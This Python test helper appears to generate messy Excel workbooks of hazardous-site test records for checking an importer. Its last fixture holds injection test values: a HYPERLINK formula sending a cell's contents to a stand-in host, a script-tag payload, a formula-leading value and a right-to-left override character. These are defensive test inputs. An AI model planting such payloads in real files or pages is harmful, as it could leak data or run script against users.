"""Deliberately messy workbooks, as officers keep them: each is named for its oddity.

As a script it writes them into a folder: ``python tests/messy_workbooks.py FOLDER``.
"""

from __future__ import annotations

import re
import sys
from collections.abc import Callable, Iterable, Sequence
from datetime import date, datetime
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile

from openpyxl import Workbook
from openpyxl.packaging.relationship import Relationship
from openpyxl.styles import Font, PatternFill
from openpyxl.utils.datetime import CALENDAR_MAC_1904
from openpyxl.workbook.external_link.external import ExternalBook, ExternalLink, ExternalSheetNames
from openpyxl.worksheet.worksheet import Worksheet

RED, AMBER, GREEN = "FFFF0000", "FFFFC000", "FF00B050"


def write_all(folder: Path) -> tuple[Path, ...]:
    """Write every workbook into a folder and return the files."""
    folder.mkdir(parents=True, exist_ok=True)
    return tuple(write(folder, name) for name in WORKBOOKS)


def write(folder: Path, name: str) -> Path:
    """Write one workbook, by its name without the ending."""
    path = folder / f"{name}.xlsx"
    book = Workbook()
    sheet = book.active
    assert isinstance(sheet, Worksheet)
    sheet.title = "Sites"
    WORKBOOKS[name](book, sheet)
    book.save(path)
    book.close()
    if name == "formulas-and-external-links":
        _give_value(path, "EDATE(B2,36)", "46154")  # what a spreadsheet last worked out: 12 May 2026
    return path


def rows(sheet: Worksheet, lines: Iterable[Sequence[object]]) -> None:
    """Put lines below what is there."""
    for line in lines:
        sheet.append(list(line))


def merged_sites_and_two_rows_a_site(_book: Workbook, sheet: Worksheet) -> None:
    """One site's name merged over its three tests; another's left blank in its second row, not merged."""
    rows(
        sheet,
        [
            ("Site", "Town", "Tier", "Date of test", "Exercise type"),
            ("Westbank Acids", "Exampleton", "Upper", date(2017, 3, 8), "Live"),
            (None, None, None, date(2020, 2, 19), "Table top"),
            (None, None, None, date(2023, 1, 25), "Live"),
            ("Fernhill Gases", "Sampleford", "Upper", date(2021, 6, 16), "Live"),
            (None, None, None, date(2024, 5, 22), "Live"),
        ],
    )
    for letter in "ABC":
        sheet.merge_cells(f"{letter}2:{letter}4")


def traffic_light_colours(_book: Workbook, sheet: Worksheet) -> None:
    """Whether a plan is in date is told by the colour of a cell alone."""
    rows(
        sheet,
        [
            ("Site", "Tier", "Last review"),
            ("Westbank Acids", "UT", date(2024, 3, 5)),
            ("Fernhill Gases", "UT", date(2021, 3, 5)),
            ("Quarry Lane", "UT", None),
        ],
    )
    for row, colour in ((2, GREEN), (3, AMBER), (4, RED)):
        sheet.cell(row, 3).fill = PatternFill("solid", fgColor=colour)
    sheet.cell(2, 1).font = Font(bold=True)


# the site, what is written, and what it is read as; None: it is reported, and nothing is recorded
DATES_EVERY_WAY: dict[str, tuple[object, str | None]] = {
    "Ashby Resins": (datetime(2023, 5, 12), "2023-05-12"),  # noqa: DTZ001 - a cell has no zone
    "Brampton Fuels": (45058, "2023-05-12"),
    "Corby Dyes": ("12/05/2023", "2023-05-12"),
    "Duxford Solvents": ("05/13/2023", None),
    "Elmswell Paints": ("May 2023", "2023-05"),
    "Fenwick Chlorine": ("May-23", "2023-05"),
    "Goole Ammonia": ("Q1 2024", "2024-01/2024-03"),
    "Hexham Polymers": ("autumn 2024", "2024-09/2024-12"),
    "Ilkley Explosives": ("winter 2024", None),
    "Jarrow Terminal": ("week 10, 2024", "2024-W10"),
    "Keswick Gas Holder": ("2021", "2021"),
    "Lydd Fertilisers": ("12/05/2023*", "2023-05-12"),
    "Malton Coatings": ("TBC", None),
    "Newark Plastics": ("2021 (postponed)", None),
    "Otley Cryogenics": ("12/05/2031", None),
    "Pickering Oils": ("Monday 12 May 2023", None),
}


def dates_every_way(_book: Workbook, sheet: Worksheet) -> None:
    """The same day written in every way that officers have, and some that mean no day."""
    rows(sheet, [("Site", "Tier", "Date of test")])
    for name, (written, _) in DATES_EVERY_WAY.items():
        rows(sheet, [(name, "upper", written)])


def mac_1904_serials(book: Workbook, sheet: Worksheet) -> None:
    """A workbook begun on an old Macintosh: its days are counted from 1904."""
    book.epoch = CALENDAR_MAC_1904
    rows(
        sheet,
        [
            ("Site", "Tier", "Date of test"),
            ("Westbank Acids", "upper", date(2023, 5, 12)),
            ("Fernhill Gases", "upper", 43596),  # the same day, its cell not formatted as a date
        ],
    )


def subheadings_footnotes_and_totals(_book: Workbook, sheet: Worksheet) -> None:
    """Lines that are no sites stand between the sites and below them."""
    rows(
        sheet,
        [
            ("Site", "Town", "Tier", "Date of test"),
            ("UPPER TIER SITES",),
            ("Westbank Acids", "Exampleton", "Upper", date(2023, 1, 25)),
            ("Fernhill Gases", "Sampleford", "Upper", "22/05/2024*"),
            (),
            ("Site", "Town", "Tier", "Date of test"),
            ("Quarry Lane", "Exampleton", "Upper", date(2022, 9, 14)),
            ("Total", None, None, 3),
            (),
            ("* live play curtailed because of weather",),
        ],
    )


def hidden_rows_and_an_old_sheet(book: Workbook, sheet: Worksheet) -> None:
    """A hidden row that still counts, and a hidden sheet that nobody has looked at for years."""
    rows(
        sheet,
        [
            ("Site", "Tier", "Date of test"),
            ("Westbank Acids", "upper", date(2023, 1, 25)),
            ("Fernhill Gases", "upper", date(2024, 5, 22)),
        ],
    )
    sheet.row_dimensions[3].hidden = True
    old = book.create_sheet("Sites 2012 (old)")
    rows(old, [("Site", "Tier", "Date of test"), ("Gone Works", "upper", date(2009, 4, 1))])
    old.sheet_state = "hidden"


def one_site_two_names(_book: Workbook, sheet: Worksheet) -> None:
    """A site on record under a slightly other name, one with nearly its name, and two spellings of a new one."""
    rows(
        sheet,
        [
            ("Site", "Tier", "Date of review"),
            ("NORTHBANK CHEMICALS LTD.", "upper", date(2024, 2, 6)),
            ("Northbank Chemical Works", "upper", date(2024, 3, 12)),
            ("Fernhill Gases", "upper", date(2024, 4, 9)),
            ("Fern Hill Gases", "upper", date(2021, 4, 13)),
            ("Fernhill Gasses", "upper", date(2018, 4, 10)),
        ],
    )


def next_due_against_the_law(_book: Workbook, sheet: Worksheet) -> None:
    """Next-due columns kept by hand: one a year late, one with the safe date, one with a target of its own."""
    rows(
        sheet,
        [
            ("Site", "Tier", "Date of test", "Next test due"),
            ("Northbank Chemicals", "upper", date(2023, 5, 12), date(2027, 5, 12)),
            ("Westbank Acids", "upper", date(2023, 1, 25), date(2026, 1, 24)),
            ("Fernhill Gases", "upper", date(2024, 5, 22), date(2026, 11, 22)),
        ],
    )


def formulas_and_external_links(book: Workbook, sheet: Worksheet) -> None:
    """Dates that are worked out, one of them from another workbook, and one that never was worked out."""
    rows(
        sheet,
        [
            ("Site", "Date of test", "Next test due", "Tier"),
            ("Westbank Acids", date(2023, 5, 12), "=EDATE(B2,36)", "upper"),
            ("Fernhill Gases", "=[1]Dates!$B$7", None, "upper"),
        ],
    )
    sheet["C2"].number_format = "dd/mm/yyyy"
    names = ExternalSheetNames(sheetName=["Dates"])
    link = ExternalLink(externalBook=ExternalBook(sheetNames=names, id="rId1"))
    link.file_link = Relationship(type="externalLinkPath", Target="old-dates.xlsx", TargetMode="External", Id="rId1")
    book._external_links.append(link)  # type: ignore[attr-defined]  # noqa: SLF001 - there is no other way to make one


def headings_in_row_five_two_lines(_book: Workbook, sheet: Worksheet) -> None:
    """A title and a date above; the headings are in two rows, the upper ones merged over two columns."""
    rows(
        sheet,
        [
            ("Exampleshire COMAH sites",),
            ("Printed 3 March 2025",),
            (),
            (None, None, "Last test", None, "Plan"),
            ("Site", "Tier", "Date", "Type", "Version"),
            ("Westbank Acids", "Upper", date(2023, 1, 25), "Live", 4),
            ("Fernhill Gases", "Upper", date(2024, 5, 22), "TTX", "3.1"),
        ],
    )
    sheet.merge_cells("C4:D4")


HOSTILE_NOTE = '=HYPERLINK("http://example.invalid/?"&A2,"open")'


def text_that_would_be_code(_book: Workbook, sheet: Worksheet) -> None:
    """Text that a spreadsheet, a terminal, a page or a record file could take for more than text."""
    rows(
        sheet,
        [
            ("Site", "Operator", "Tier", "Notes"),
            ("Westbank [bold]Acids", '"""\n[[plans]]\nregime = "reppir"', "upper", None),
            ("<script>alert(1)</script>", "-2+3", "upper", "\u202etxet"),
        ],
    )
    sheet["D2"].value = HOSTILE_NOTE
    sheet["D2"].data_type = "s"
    sheet["B3"].data_type = "s"


WORKBOOKS: dict[str, Callable[[Workbook, Worksheet], None]] = {
    made.__name__.replace("_", "-"): made
    for made in (
        merged_sites_and_two_rows_a_site,
        traffic_light_colours,
        dates_every_way,
        mac_1904_serials,
        subheadings_footnotes_and_totals,
        hidden_rows_and_an_old_sheet,
        one_site_two_names,
        next_due_against_the_law,
        formulas_and_external_links,
        headings_in_row_five_two_lines,
        text_that_would_be_code,
    )
}


def _give_value(path: Path, formula: str, value: str) -> None:
    """Put the value that a spreadsheet last worked out beside a formula; the library writes none."""
    with ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode("utf-8")
    parts["xl/worksheets/sheet1.xml"] = re.sub(
        rf"<f>{re.escape(formula)}</f><v\s*/>|<f>{re.escape(formula)}</f><v></v>",
        f"<f>{formula}</f><v>{value}</v>",
        sheet,
    ).encode("utf-8")
    with ZipFile(path, "w", ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


if __name__ == "__main__":
    for written in write_all(Path(sys.argv[1])):
        sys.stdout.write(f"{written}\n")
